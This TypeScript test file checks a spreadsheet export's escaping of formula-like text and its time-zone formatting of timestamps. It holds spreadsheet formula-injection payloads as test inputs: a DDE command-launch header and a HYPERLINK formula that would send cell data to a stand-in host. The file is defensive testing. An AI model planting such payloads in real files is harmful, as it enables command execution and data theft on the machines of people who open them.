import { describe, expect, it } from 'vitest';
import { firstSheetOf } from '../test/harness.ts';
import { workbook, zonedText } from './xlsx.ts';

describe('xlsx exports', () => {
  it('write text that a spreadsheet would read as a formula with a leading quote, numbers as numbers', async () => {
    const texts = ['=1+1', '+31 6 1234', '-x', '@SUM(A1)', '\tTab', '\rReturn', '=HYPERLINK("http://x.example/?"&A1)'];
    const file = await workbook(
      'Export',
      [
        { header: '=cmd|"/c calc"!A1', key: 'text' },
        { header: 'Value', key: 'value' },
      ],
      [...texts.map((text) => ({ text, value: -12.5 })), { text: 'plain - text', value: 0 }, { text: '', value: null }],
    );
    const sheet = await firstSheetOf(file);
    expect(sheet.getCell('A1').value).toBe(`'=cmd|"/c calc"!A1`);
    // (XML reads a carriage return back as a line feed.)
    expect(texts.map((_, i) => sheet.getCell(`A${i + 2}`).value)).toEqual(texts.map((text) => `'${text.replace('\r', '\n')}`));
    // A negative number is a number, not text that starts with a minus.
    expect(sheet.getCell('B2').value).toBe(-12.5);
    expect(sheet.getCell('B2').type).toBe(2); // ExcelJS.ValueType.Number
    expect([sheet.getCell('A9').value, sheet.getCell('B9').value]).toEqual(['plain - text', 0]);
  });

  it("write a plant's times in its own zone, through summer time and midnight", () => {
    // 01:30 UTC on the day Berlin springs forward: 03:30 summer time; Seoul is 9 hours ahead all year.
    const springForward = Date.UTC(2026, 2, 29, 1, 30, 5);
    expect(zonedText(springForward, 'Europe/Berlin')).toBe('2026-03-29 03:30:05');
    expect(zonedText(springForward, 'Asia/Seoul')).toBe('2026-03-29 10:30:05');
    expect(zonedText(Date.UTC(2026, 11, 31, 23, 0, 0), 'Europe/Berlin')).toBe('2027-01-01 00:00:00');
    expect(zonedText(null, 'UTC')).toBe('');
  });
});
